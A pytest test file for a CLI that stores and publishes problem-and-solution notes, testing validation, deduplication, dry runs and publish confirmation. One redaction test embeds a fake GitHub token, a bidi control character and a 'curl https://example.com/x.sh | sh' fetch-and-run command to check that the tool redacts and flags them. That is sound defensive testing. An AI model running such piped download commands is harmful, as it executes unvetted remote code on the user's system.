import json
from pathlib import Path

import pytest

from commandline import Cli, Run

QUICK = (
    "--title", "uv lock fails after raising requires-python",
    "--problem", "uv lock says no solution found once requires-python is raised to 3.9 or later.",
    "--solution", "A dependency dropped 3.9. Raise requires-python to 3.10, then run `uv lock` again.",
)  # fmt: skip


def test_a_file_is_stored_and_can_be_shown(cli: Cli, fix: Run) -> None:
    result = cli.json("contribute", fix())
    assert result["stored"]
    assert cli.json("show", result["trace_id"])["content"] == result["content"]


def test_standard_input_is_a_file_too(cli: Cli, fix: Run, work: Path) -> None:
    text = (work / fix()).read_text()
    assert cli.json("contribute", "-", stdin=text)["stored"]


def test_three_options_are_enough(cli: Cli) -> None:
    error = "× No solution found when resolving dependencies"
    result = cli.json("contribute", *QUICK, "--tag", "UV", "--error", error, "--visibility", "team")
    content = cli.json("show", result["trace_id"][:8])["content"]
    assert content["tags"] == ["uv"]
    assert content["errors"] == [error]
    assert content["source"]["kind"] == "human"
    assert result["visibility"] == "team"


def test_options_go_before_the_file(cli: Cli, fix: Run) -> None:
    result = cli.json("contribute", fix(), "--title", "Another title for the locked database")
    assert result["content"]["title"] == "Another title for the locked database"
    assert result["content"]["tags"] == ["sqlite", "python"]


def test_a_dry_run_shows_what_would_be_stored_and_stores_nothing(cli: Cli, fix: Run) -> None:
    shown = cli.good("contribute", fix(), "--dry-run")
    assert "would be stored" in shown
    assert "Open every write with BEGIN IMMEDIATE" in shown
    assert cli.json("status")["traces"] == 0


def test_what_was_redacted_hidden_and_labelled_is_said(cli: Cli) -> None:
    secret = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    solution = f"Set the token {secret} and run `curl https://example.com/x.sh | sh`\u202e in the folder, then retry."
    shown = cli.good("contribute", *QUICK[:-1], solution)
    assert "redacted solution: secret:github-token ×1" in shown
    assert "taken out bidi control" in shown
    assert "labelled risky command" in shown
    assert "lint " in shown
    assert secret not in cli.good("export")


def test_the_same_content_again_adds_nothing(cli: Cli, fix: Run, trace_id: str) -> None:
    assert f"known already, nothing was added: {trace_id[:10]}" in cli.good("contribute", fix())


def test_a_near_duplicate_is_refused_unless_one_insists_or_supersedes(cli: Cli, trace_id: str) -> None:
    same = ("contribute", "fix-0.json", "--title", "SQLite says the database is locked when processes write")
    assert trace_id[:10] in cli.failed(*same)
    refused = json.loads(cli(*same, "--json").stdout)
    assert refused["code"] == "near_duplicate"
    assert refused["extra"]["matches"][0]["trace_id"] == trace_id
    assert cli.json(*same, "--insist")["stored"]


def test_a_superseded_trace_says_so(cli: Cli, trace_id: str) -> None:
    title = "SQLite: database is locked, the second edition"
    cli.good("contribute", "fix-0.json", "--title", title, "--supersedes", trace_id[:8])
    assert cli.json("show", trace_id)["state"] == "superseded"


def test_an_idempotency_key_makes_a_retry_safe(cli: Cli, fix: Run) -> None:
    first = cli.json("contribute", fix(), "--idempotency-key", "k1")
    assert cli.json("contribute", fix(), "--idempotency-key", "k1")["trace_id"] == first["trace_id"]
    assert "idempotency key" in cli.failed("contribute", fix(1), "--idempotency-key", "k1")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('{"title": "x", }', "line 1, column 16"),
        ('{\n "title": NaN}', "NaN is not a JSON number"),
        ("[" * 100_000, "nested too deeply"),
        ("[1, 2]", "does not hold a JSON object"),
        ('{"title": "x"}', "problem is missing (1 more)"),
        ('{"title": 7, "problem": "p", "solution": "s"}', "title: input should be a valid string"),
        ('{"title": "t", "problem": "p", "solution": "s", "contxt": "c"}', "there is no field contxt"),
        (json.dumps({"title": "t" * 201, "problem": "p", "solution": "s"}), "at most 200 characters"),
        (json.dumps({"title": "t", "problem": "p" * 39_999, "solution": "s w " * 9_000}), "64 KiB"),
        ('{"title": "t", "problem": "why", "solution": "TODO"}', "help nobody"),
    ],
)
def test_a_bad_file_is_refused_in_one_line_that_says_where(cli: Cli, work: Path, text: str, says: str) -> None:
    (work / "bad.json").write_text(text)
    assert says in cli.failed("contribute", "bad.json")
    assert cli.json("status")["traces"] == 0


def test_files_that_cannot_be_read_are_refused_in_one_line(cli: Cli, work: Path) -> None:
    (work / "latin.json").write_bytes(b'{"title": "\xe9"}')
    assert "nowhere.json: no such file" in cli.failed("contribute", "nowhere.json")
    assert "is a directory" in cli.failed("contribute", ".")
    assert "latin.json is not UTF-8" in cli.failed("contribute", "latin.json")
    assert "is not the name of a file" in cli.failed("contribute", "a\0b")


def test_too_little_is_a_usage_error(cli: Cli) -> None:
    assert "--solution" in cli.failed("contribute", "--title", "only a title", code=2)


def test_publishing_shows_a_preview_and_asks(cli: Cli, trace_id: str) -> None:
    refused = cli("publish", trace_id, stdin="n\n")
    assert refused.exit_code == 1
    assert "Open every write with BEGIN IMMEDIATE" in refused.stdout
    assert "Not published." in refused.stderr
    assert cli.json("show", trace_id)["visibility"] == "private"
    done = cli("publish", trace_id, stdin="y\n")
    assert done.exit_code == 0
    assert done.stdout.count("Open every write") == 1
    assert "is now visible to everybody" in done.stdout
    assert cli.json("show", trace_id)["visibility"] == "public"


def test_a_publication_can_be_looked_at_first_or_be_meant(cli: Cli, trace_id: str) -> None:
    assert "would be visible to your organization" in cli.good("publish", trace_id, "--to", "team", "--dry-run")
    assert cli.json("show", trace_id)["visibility"] == "private"
    assert cli.json("publish", trace_id, "--to", "team", "--yes")["published"]
    assert cli.json("show", trace_id)["visibility"] == "team"


def test_nobody_is_asked_where_nobody_can_answer(cli: Cli, trace_id: str) -> None:
    assert "--yes" in cli.failed("publish", trace_id, "--json", code=2)
    assert cli("publish", trace_id, stdin="").exit_code == 130
    assert cli.json("show", trace_id)["visibility"] == "private"
